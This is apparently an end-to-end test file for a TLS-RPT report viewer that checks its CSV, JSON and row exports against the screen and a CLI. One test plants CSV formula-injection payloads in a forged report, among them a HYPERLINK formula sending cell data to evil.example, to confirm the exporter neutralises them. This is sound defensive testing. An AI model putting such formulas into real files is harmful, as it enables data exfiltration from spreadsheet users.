// End-to-end test of the exports: each view's CSV and the analysis JSON are downloaded,
// read back, and compared with the figures on the screen and with `summarize`.
import { test } from "node:test";
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { useEnvironment, SAMPLES, appWithFiles, assertPrivate, summarize, slug, number } from "./helpers.mjs";
import { settled, text } from "./helpers.mjs";

useEnvironment();

const FILES = [
  "real/parsedmarc/mail.ru.json",
  "real/parsedmarc/rfc8460.json",
  "real/phi-ag-mta-sts-exporter/google.json",
  "real/cry-inc-dmarc-report-viewer/microsoft.json",
  "real/robalexdev-tlsrpt-be/report.json",
  "real/isseis-tlsrpt-digest/tlsrpt_failure.eml",
].map((p) => join(SAMPLES, p));

/** RFC 4180 CSV to rows of fields. */
function parseCsv(text) {
  const rows = [];
  let row = [], field = "", quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") { row.push(field); field = ""; }
    else if (c === "\n") { row.push(field); rows.push(row); row = []; field = ""; }
    else if (c !== "\r") field += c;
  }
  if (field || row.length) { row.push(field); rows.push(row); }
  return rows;
}

async function download(page, testId) {
  const [file] = await Promise.all([page.waitForEvent("download"), page.click(`[data-testid=${testId}]`)]);
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), "utf8") };
}

test("each view's CSV and the JSON agree with the screen and with summarize", async () => {
  const summary = summarize(FILES);
  const { page, context, watch } = await appWithFiles(FILES);

  // By result: every row of the CSV is a row on the screen, figure for figure.
  await page.click("[data-testid=tab-results]");
  await settled(page);
  const results = await download(page, "export-csv");
  // Its name says the view and the period of the reports (the overview's).
  const period = (await text(page, "[data-testid=overview-date-range]")).replace(" – ", "-to-");
  assert.equal(results.name, `tlsrpt-by-result-${period}.csv`);
  const [header, ...rows] = parseCsv(results.text);
  // Failures by type: a column per result type that fails in the rows, as the chips say.
  const typeColumns = header.filter((h) => h.startsWith("failed-") && h !== "failed-sessions" && h !== "failed-without-details");
  assert.deepEqual(header, ["policy-domain", "policy-type", "successful-sessions", "failed-sessions", ...typeColumns, "failed-without-details", "reports"]);
  assert.ok(typeColumns.includes("failed-starttls-not-supported"), header.join());
  assert.equal(rows.length, await page.locator("[data-testid=results-table] tbody tr").count());
  assert.equal(rows.length, summary["per-result"].length);
  for (const row of rows) {
    const [domain, type, ok, failed] = row;
    const tr = `[data-testid="result-row-${slug(domain)}-${slug(type)}"]`;
    assert.equal(number(await page.locator(`${tr} [data-col=successful]`).innerText()), Number(ok), tr);
    assert.equal(number(await page.locator(`${tr} [data-col=failed]`).innerText()), Number(failed), tr);
    const chips = await page.locator(`${tr} .chip`).evaluateAll((els) => els.map((el) => [`failed-${el.dataset.type}`, el.querySelector(".chip-count").textContent.replaceAll(",", "")]));
    const cells = typeColumns.map((h, i) => [h, row[4 + i]]).filter(([, n]) => n !== "0");
    assert.deepEqual(cells, chips.sort(), tr);
  }

  // The problems: a row per finding and name it lists, the findings in the screen's order.
  await page.click("[data-testid=tab-problems]");
  await settled(page);
  const [problemsHeader, ...problems] = parseCsv((await download(page, "export-csv")).text);
  assert.deepEqual(problemsHeader.slice(0, 4), ["finding", "severity", "rule", "title"]);
  assert.deepEqual(problemsHeader.slice(-2), ["name-kind", "name"]);
  const firstRows = problems.filter((r, i) => i === 0 || problems[i - 1][0] !== r[0]);
  const shown = await page.locator("[data-testid=findings] > li").evaluateAll((items) => items.map((li) => [li.dataset.severity, li.dataset.rule, li.querySelector(".finding-title").textContent]));
  assert.deepEqual(firstRows.map((r) => r.slice(1, 4)), shown);
  // The RFC example's certificate-expired finding: a row per sending IP it names.
  const expired = summary.findings.find((f) => f.rule === "result/certificate-expired" && f["sending-ips"].length > 0);
  const expiredIps = problems.filter((r) => r[0] === expired.id && r.at(-2) === "sending-ip").map((r) => r.at(-1));
  assert.deepEqual(expiredIps, expired["sending-ips"]);

  // The timeline and the sources.
  await page.click("[data-testid=tab-timeline]");
  await settled(page);
  const days = parseCsv((await download(page, "export-csv")).text).slice(1);
  assert.deepEqual(days.map((r) => [r[0], Number(r[1]), Number(r[2])]), summary["per-day"].map((d) => [d.day, d["successful-sessions"], d["failed-sessions"]]));
  await page.click("[data-testid=tab-sources]");
  await settled(page);
  const [sourcesHeader, ...sources] = parseCsv((await download(page, "export-csv")).text);
  // A row per organisation, then its IPs, each with a row per MX host and domain it names.
  const at = (name) => sourcesHeader.indexOf(name);
  const organizations = sources.filter((r) => r[at("row")] === "organization");
  assert.deepEqual(organizations.map((r) => [r[0], Number(r[at("successful-sessions")]), Number(r[at("failed-sessions")]), r[at("first-day")], r[at("last-day")]]),
    summary["per-source"].map((g) => [g.organization, g["successful-sessions"], g["failed-sessions"], g["first-day"], g["last-day"]]));
  const ips = sources.filter((r) => r[at("row")] === "sending-ip" && r[at("failed-sessions")] !== "");
  assert.equal(ips.length, summary["per-source"].reduce((n, g) => n + g.sources.length, 0));
  const hosts = sources.filter((r) => r[at("name-kind")] === "receiving-mx-host").length;
  assert.equal(hosts, summary["per-source"].reduce((n, g) => n + g.sources.reduce((m, s) => m + s["receiving-mx-hosts"].length, 0), 0));

  // The inputs: every node of the tree.
  await page.click("[data-testid=tab-inputs]");
  await settled(page);
  const inputs = parseCsv((await download(page, "export-csv")).text).slice(1);
  assert.equal(inputs.length, FILES.length + 1, "six files and the email's attachment");
  assert.match(inputs.find((r) => r[0].endsWith(".json.gz"))[0], /^.*tlsrpt_failure\.eml › .*\.json\.gz$/);

  // The JSON: the same aggregates and findings as the core.
  const json = JSON.parse((await download(page, "export-json")).text);
  assert.deepEqual(json.overview, summary.overview);
  assert.deepEqual(json["per-result"], summary["per-result"]);
  assert.deepEqual(json.findings.map((f) => f.rule), summary.findings.map((f) => f.rule));

  // Under a filter, a file's name says which: two downloads never overwrite each other.
  await page.evaluate(() => { location.hash = "domain=example.com"; });
  await page.click("[data-testid=tab-results]");
  await settled(page);
  const domainPeriod = (await text(page, "[data-testid=overview-date-range]")).replace(" – ", "-to-");
  assert.equal((await download(page, "export-csv")).name, `tlsrpt-by-result-example.com-${domainPeriod}.csv`);
  assert.equal((await download(page, "export-json")).name, `tlsrpt-analysis-example.com-${domainPeriod}.json`);
  assertPrivate(watch);
  await context.close();
});

test("no exported CSV cell reads as a spreadsheet formula, and the JSON keeps the text as given", async () => {
  // A forged report: formulas in every field a CSV carries, and in the file's name.
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
  const report = JSON.parse(readFileSync(join(SAMPLES, "real/parsedmarc/rfc8460.json"), "utf8"));
  report["organization-name"] = formula;
  report["report-id"] = "@SUM(1+1)";
  const policy = report.policies[0];
  policy.policy["policy-domain"] = "+cmd.example";
  policy.policy["mx-host"] = "-mx.example";
  for (const detail of policy["failure-details"]) {
    detail["sending-mta-ip"] = "=1+1";
    detail["receiving-mx-hostname"] = "\t=mx.example";
  }
  policy["failure-details"][0]["result-type"] = "-injected";
  const dir = mkdtempSync(join(tmpdir(), "tlsrpt-formula-"));
  // A file name cannot hold a "/": the same formula without the address.
  const named = '=HYPERLINK("evil.example?"&A1,"Click me")';
  const file = join(dir, `${named}.json`);
  writeFileSync(file, JSON.stringify(report));
  const { page, context, watch } = await appWithFiles([file]);

  const risky = /^[=+\-@\t\r]/;
  const seen = new Set();
  for (const tab of ["problems", "results", "timeline", "sources", "inputs"]) {
    await page.click(`[data-testid=tab-${tab}]`);
    await settled(page);
    const { text } = await download(page, "export-csv");
    // Every field is quoted, and no cell begins with a formula character.
    for (const line of text.split("\n").filter(Boolean)) assert.ok(line.startsWith('"'), `${tab}: ${line}`);
    for (const cell of parseCsv(text).flat()) {
      assert.doesNotMatch(cell, risky, `${tab}: ${cell}`);
      if (cell.startsWith("'")) seen.add(cell);
    }
  }
  for (const cell of [`'${formula}`, `'${named}.json`, "'+cmd.example", "'=1+1"]) {
    assert.ok([...seen].some((s) => s.includes(cell)), `${cell} neutralised in some CSV: ${[...seen].join(" | ")}`);
  }
  // The JSON export is data, not a spreadsheet: it keeps the text as given.
  const json = JSON.parse((await download(page, "export-json")).text);
  assert.ok(JSON.stringify(json).includes(JSON.stringify(formula).slice(1, -1)), "the organisation as given");
  assertPrivate(watch);
  await context.close();
});

test("Export rows gives, row for row, what the tlsrpt command writes for the same files; under a filter, what it selects", { timeout: 180_000 }, async () => {
  // Files of unique names in one folder, so that the command, run there, names each input as
  // the page does (by its name); a corpus mailbox beside the samples.
  const dir = mkdtempSync(join(tmpdir(), "tlsrpt-rows-"));
  const names = [];
  for (const path of [...FILES, join(SAMPLES, "real/cry-inc-dmarc-report-viewer/no-policy.json")]) {
    const name = `${names.length}-${path.split("/").pop()}`;
    writeFileSync(join(dir, name), readFileSync(path));
    names.push(name);
  }
  const { ROOT } = await import("./helpers.mjs");
  const { execFileSync } = await import("node:child_process");
  execFileSync("cargo", ["build", "-q", "--bin", "tlsrpt"], { cwd: ROOT, stdio: "pipe" });
  const tlsrpt = (table, ...args) =>
    execFileSync(join(ROOT, "target/debug/tlsrpt"), ["rows", "--out", "-", "--table", table, ...args, ...names], { cwd: dir, encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] });
  const { page, context, watch } = await appWithFiles(names.map((name) => join(dir, name)));
  const downloads = [];
  page.on("download", (d) => downloads.push(d));
  await page.click("[data-testid=export-rows]");
  for (let i = 0; i < 50 && downloads.length < 2; i++) await page.waitForTimeout(100);
  assert.equal(downloads.length, 2, "two files: the two tables");
  const got = Object.fromEntries(await Promise.all(downloads.map(async (d) => [d.suggestedFilename(), readFileSync(await d.path(), "utf8")])));
  const policyName = Object.keys(got).find((n) => n.startsWith("tlsrpt_policy"));
  const failureName = Object.keys(got).find((n) => n.startsWith("tlsrpt_failure"));
  assert.match(policyName, /^tlsrpt_policy-\d{4}-\d\d-\d\d-to-\d{4}-\d\d-\d\d\.ndjson$/);
  assert.equal(got[policyName], tlsrpt("policy"));
  assert.equal(got[failureName], tlsrpt("failure"));
  assert.ok(got[failureName].split("\n").length > 5);

  // Under a domain filter: that domain's policies only, each whole.
  const { chooseDomain } = await import("./helpers.mjs");
  await chooseDomain(page, "example.com");
  downloads.length = 0;
  await page.click("[data-testid=export-rows]");
  for (let i = 0; i < 50 && downloads.length < 2; i++) await page.waitForTimeout(100);
  const filtered = Object.fromEntries(await Promise.all(downloads.map(async (d) => [d.suggestedFilename(), readFileSync(await d.path(), "utf8")])));
  const rows = Object.entries(filtered).flatMap(([name, text]) => text.trim().split("\n").map((line) => [name, JSON.parse(line)]));
  assert.ok(rows.length > 0);
  for (const [name, row] of rows) {
    assert.match(name, /-example\.com-/);
    assert.equal(row.policy_domain, "example.com");
  }
  const whole = tlsrpt("policy").trim().split("\n").map((line) => JSON.parse(line)).filter((row) => row.policy_domain === "example.com");
  assert.equal(rows.filter(([name]) => name.startsWith("tlsrpt_policy")).length, whole.length);
  assertPrivate(watch);
  await context.close();
});
